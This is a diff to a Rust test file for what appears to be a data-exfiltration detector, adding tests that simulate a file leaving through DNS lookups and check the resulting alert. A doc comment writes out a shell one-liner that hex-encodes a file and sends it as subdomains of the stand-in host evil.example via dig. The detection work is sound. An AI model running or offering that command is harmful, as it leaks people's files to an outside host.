@@ -2,7 +2,7 @@
 
 use super::*;
 use crate::detect::{Path, Place};
-use crate::event::{Carrier, CarrierKey, CarrierKind, Edge, EdgeKind, End};
+use crate::event::{Carrier, CarrierKey, CarrierKind, Edge, EdgeKind, End, FlowName, NameSource};
 
 const JOB: u32 = 900;
 
@@ -498,4 +498,70 @@ fn it_ends_the_same_however_the_log_is_cut() {
             );
         }
     }
+}
+
+fn asks(second: u64, pid: u32, name: &str) -> Event {
+    sent_by(second, 110, |flow| {
+        flow.process = key(pid);
+        flow.id = u64::from(pid);
+        flow.protocol = 17;
+        flow.remote = "10.0.0.53:53".parse().unwrap();
+        flow.opened_ns = at(second);
+        flow.name = Some(FlowName {
+            source: NameSource::Question,
+            name: name.into(),
+        });
+    })
+}
+
+/// `for d in $(head -c 3000 f | xxd -p -c 30); do dig $d.evil.example; done`
+fn dig(name: impl Fn(u32) -> String) -> Vec<Event> {
+    let mut events = job(vec![
+        program(1, 1000, JOB, "/usr/bin/head"),
+        program(1, 1001, JOB, "/usr/bin/xxd"),
+        takes(2, 1000, 1, 3_000),
+        writes(2, 1000, pipe(1), 3_000),
+        gets(2, 1001, pipe(1), 3_000),
+        writes(2, 1001, pipe(2), 6_100),
+        gets(2, JOB, pipe(2), 6_100),
+    ]);
+    for n in 0..100 {
+        let (pid, second) = (1_100 + n, 3 + u64::from(n) / 10);
+        events.push(program(second, pid, JOB, "/usr/bin/dig"));
+        events.push(asks(second, pid, &name(n)));
+    }
+    events
+}
+
+#[test]
+fn a_page_that_leaves_as_names_is_found() {
+    let alerts = detect(config(), &[dig(|n| format!("{n:060}.evil.example"))]);
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    let alert = &alerts[0];
+    assert_eq!(alert.pattern, "dns");
+    assert_eq!(
+        (alert.figures.records, alert.figures.bytes_read),
+        (1, 3_000)
+    );
+    assert_eq!(alert.flows, 100);
+    assert_eq!(
+        alert.destination_name.as_ref().unwrap().name,
+        "evil.example"
+    );
+    assert_eq!(techniques(alert), ["T1005", "T1048.003", "T1071.004"]);
+    for part in [
+        "started, with them, dig",
+        "100 names below \"evil.example\"",
+    ] {
+        assert!(alert.story.contains(part), "{part:?}: {}", alert.story);
+    }
+}
+
+#[test]
+fn names_that_are_names_are_left_alone() {
+    none(dig(|n| format!("www{n}.hospital.example")));
+    none(dig(|n| format!("{n:060}.d{n}.example")));
+    let mut before = dig(|n| format!("{n:060}.evil.example"));
+    before.retain(|event| !matches!(event.what, What::Access(_)));
+    none(before);
 }
